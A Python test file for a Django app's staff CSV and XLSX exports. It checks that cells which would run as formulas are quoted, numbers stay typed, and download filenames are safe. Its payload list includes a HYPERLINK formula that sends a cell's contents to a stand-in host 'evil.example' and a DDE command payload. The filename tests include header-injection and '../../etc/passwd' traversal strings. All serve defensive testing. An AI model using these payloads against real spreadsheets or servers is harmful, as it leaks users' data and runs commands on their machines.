"""Staff exports: no cell a spreadsheet would run as a formula, numbers stay numbers."""

import csv
import datetime
import io
import itertools
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from mitplan.core.exports import (
    attachment_header,
    csv_response,
    neutralise,
    sheet_title_clean,
    xlsx_response,
)

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Klick")',
    "+49 30 123456",
    "-5+3",
    "-5",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\tplain",
    "   =1+1",
    "\n=cmd|' /C calc'!A0",
    "\x00=1+1",
]
PLAIN = ["Radweg Hauptstraße", "مدرسة جديدة", "Mehr Bäume 🌳", "a-b", "5", "", "'=x"]


def read_csv(response):
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(response):
    workbook = load_workbook(io.BytesIO(response.content))
    return workbook.active


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_quotes_text_that_starts_a_formula(payload):
    result = neutralise(payload)
    assert result.startswith("'")
    assert "\x00" not in result


@pytest.mark.parametrize("text", PLAIN)
def test_neutralise_leaves_plain_text_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize(
    "value",
    [-5, -2.5, Decimal("-1.25"), 0, True, None, datetime.date(2025, 3, 1)],
)
def test_neutralise_returns_non_strings_unchanged(value):
    assert neutralise(value) is value


def test_neutralise_drops_control_characters_but_keeps_line_breaks_and_tabs():
    assert neutralise("a\x00b\x07c\x1fd\ufffe") == "abcd"
    assert (
        neutralise("Zeile 1\r\nZeile 2\rZeile 3\tx") == "Zeile 1\nZeile 2\nZeile 3\tx"
    )


def test_csv_neutralises_every_cell_including_the_header():
    response = csv_response(
        "x", ["=Titel", "Zahl"], [[payload, -5] for payload in PAYLOADS]
    )
    header, *rows = read_csv(response)
    assert header == ["'=Titel", "Zahl"]
    for (text, number), payload in zip(rows, PAYLOADS, strict=True):
        assert text.startswith("'"), payload
        assert number == "-5"


def test_csv_quotes_every_field_so_a_foreign_delimiter_cannot_split_a_cell():
    response = csv_response("x", ["a"], [["Rad;=1+1", 7]])
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert body.splitlines()[1] == '"Rad;=1+1","7"'


def test_csv_keeps_numbers_as_numbers_and_neutralises_numeric_strings():
    rows = [[-5, -2.5, Decimal("-1.25"), "-5", "-5+3"]]
    _header, row = read_csv(csv_response("x", ["a", "b", "c", "d", "e"], rows))
    assert row == ["-5", "-2.5", "-1.25", "'-5", "'-5+3"]


def test_csv_neutralises_values_that_only_become_text_on_export():
    rows = [[gettext_lazy("=lazy"), datetime.timedelta(days=-1)]]
    _header, row = read_csv(csv_response("x", ["a", "b"], rows))
    assert row == ["'=lazy", "'-1 day, 0:00:00"]


def test_csv_round_trips_unicode():
    _header, row = read_csv(csv_response("x", ["Text"] * len(PLAIN), [PLAIN]))
    assert row == PLAIN


def test_csv_writes_aware_datetimes_in_berlin_time():
    moment = datetime.datetime(2025, 7, 1, 10, 0, tzinfo=datetime.UTC)
    _header, row = read_csv(csv_response("x", ["Zeit"], [[moment]]))
    assert row == ["2025-07-01 12:00:00"]


def test_csv_streams_100000_rows_in_bounded_chunks():
    started = []

    def rows():
        started.append(True)
        for number in range(100_000):
            yield [number, f"Beitrag {number}", "=evil()"]

    response = csv_response("gross", ["Nr", "Titel", "Formel"], rows())
    assert not started, "rows must be consumed while streaming, not when building"
    assert response.streaming

    lines = 0
    chunks = 0
    for chunk in response.streaming_content:
        chunks += 1
        assert len(chunk) < 64 * 1024
        lines += chunk.count(b"\r\n")
        if chunks == 2:
            assert b"'=evil()" in chunk
    assert lines == 100_001
    assert chunks > 100


def test_xlsx_neutralises_every_text_cell_and_writes_no_formula():
    response = xlsx_response(
        "x", "Beiträge", ["=Titel", "Zahl"], [[payload, -5] for payload in PAYLOADS]
    )
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = read_xlsx(response)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert sheet["A1"].value == "'=Titel"
    for row, payload in zip(sheet.iter_rows(min_row=2), PAYLOADS, strict=True):
        text, number = row
        assert text.value.startswith("'"), payload
        assert text.data_type == "s"
        assert number.value == -5
        assert number.data_type == "n"


def test_xlsx_header_is_bold_and_frozen():
    sheet = read_xlsx(xlsx_response("x", "Daten", ["Titel"], [["a"]]))
    assert sheet["A1"].font.bold
    assert not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"


def test_xlsx_keeps_numbers_typed_and_neutralises_numeric_strings():
    rows = [[-5, -2.5, Decimal("-1.25"), True, None, "-5", "-5+3"]]
    sheet = read_xlsx(xlsx_response("x", "Daten", list("abcdefg"), rows))
    values = [cell.value for cell in sheet[2]]
    assert values == [-5, -2.5, -1.25, True, None, "'-5", "'-5+3"]


def test_xlsx_round_trips_unicode():
    sheet = read_xlsx(xlsx_response("x", "Daten", ["Text"] * len(PLAIN), [PLAIN]))
    expected = [text or None for text in PLAIN]  # Excel has no empty-string cell
    assert [cell.value for cell in sheet[2]] == expected


def test_xlsx_survives_control_characters():
    rows = [["NUL\x00 BEL\x07 ESC\x1b VT\x0b", "Zeile\r\nzwei", "\x00=1+1"]]
    sheet = read_xlsx(xlsx_response("x", "Da\x00ten", ["a\x01", "b", "c"], rows))
    assert [cell.value for cell in sheet[2]] == [
        "NUL BEL ESC VT",
        "Zeile\nzwei",
        "'=1+1",
    ]
    assert sheet.title == "Daten"


def test_xlsx_writes_aware_datetimes_as_berlin_wall_clock_time():
    summer = datetime.datetime(2025, 7, 1, 10, 0, tzinfo=datetime.UTC)
    winter = datetime.datetime(2025, 1, 1, 18, 30, tzinfo=ZoneInfo("America/New_York"))
    naive = datetime.datetime(2025, 3, 1, 9, 0)
    rows = [[summer, winter, naive, datetime.date(2025, 3, 1)]]
    sheet = read_xlsx(xlsx_response("x", "Zeiten", list("abcd"), rows))
    assert [cell.value for cell in sheet[2]] == [
        datetime.datetime(2025, 7, 1, 12, 0),
        datetime.datetime(2025, 1, 2, 0, 30),
        naive,
        datetime.datetime(2025, 3, 1, 0, 0),
    ]
    assert all(cell.is_date for cell in sheet[2])


def test_xlsx_accepts_lazy_translations_and_other_objects_as_text():
    with translation.override("en"):
        sheet = read_xlsx(xlsx_response("x", "a", [gettext_lazy("Title")], [[object]]))
    assert sheet["A1"].value == "Title"
    assert sheet["A2"].value == "<class 'object'>"


def test_xlsx_truncates_text_to_excels_cell_limit():
    sheet = read_xlsx(xlsx_response("x", "Daten", ["a"], [["x" * 40_000]]))
    assert len(sheet["A2"].value) == 32_767


@pytest.mark.parametrize(
    "title,expected",
    [
        ("Beiträge", "Beiträge"),
        ("a[b]c:d*e?f/g\\h", "a_b_c_d_e_f_g_h"),
        ("x" * 40, "x" * 31),
        ("🌳" * 20, "🌳" * 15),
        ("'zitiert'", "zitiert"),
        ("", "Export"),
        ("[]", "__"),
        ("History", "Export"),
        ("Zeile\neins", "Zeile eins"),
    ],
)
def test_sheet_title_follows_excels_rules(title, expected):
    assert sheet_title_clean(title) == expected


@pytest.mark.parametrize(
    "filename,expected",
    [
        ("beitraege", 'attachment; filename="beitraege.csv"'),
        ("beitraege.csv", 'attachment; filename="beitraege.csv"'),
        (
            'evil"; filename="x.exe',
            'attachment; filename="evil_ filename=_x.exe.csv"',
        ),
        ("../../etc/passwd", 'attachment; filename="etc_passwd.csv"'),
        ("C:\\Users\\a", 'attachment; filename="C_Users_a.csv"'),
        ("Zeile\r\nX-Injected: 1", 'attachment; filename="Zeile  X-Injected_ 1.csv"'),
        (
            "Beiträge Mühlenviertel",
            'attachment; filename="Beitrage Muhlenviertel.csv"; '
            "filename*=UTF-8''Beitr%C3%A4ge%20M%C3%BChlenviertel.csv",
        ),
        (
            "تقرير",
            'attachment; filename="export.csv"; '
            "filename*=UTF-8''%D8%AA%D9%82%D8%B1%D9%8A%D8%B1.csv",
        ),
        ("", 'attachment; filename="export.csv"'),
    ],
)
def test_attachment_header_is_safe(filename, expected):
    assert attachment_header(filename, suffix=".csv") == expected


def test_responses_carry_a_safe_attachment_header():
    name = 'Bürger/"innen"'
    csv_header = csv_response(name, ["a"], [])["Content-Disposition"]
    xlsx_header = xlsx_response(name, "a", ["a"], [])["Content-Disposition"]
    for header, suffix in [(csv_header, ".csv"), (xlsx_header, ".xlsx")]:
        assert header.startswith('attachment; filename="Burger_innen')
        assert header.endswith(f"B%C3%BCrger_innen{suffix}")
        assert "/" not in header
        assert header.count('"') == 2


def test_empty_export_is_just_the_header():
    assert read_csv(csv_response("x", ["a", "b"], iter(()))) == [["a", "b"]]
    sheet = read_xlsx(xlsx_response("x", "a", ["a", "b"], itertools.chain()))
    assert sheet.max_row == 1
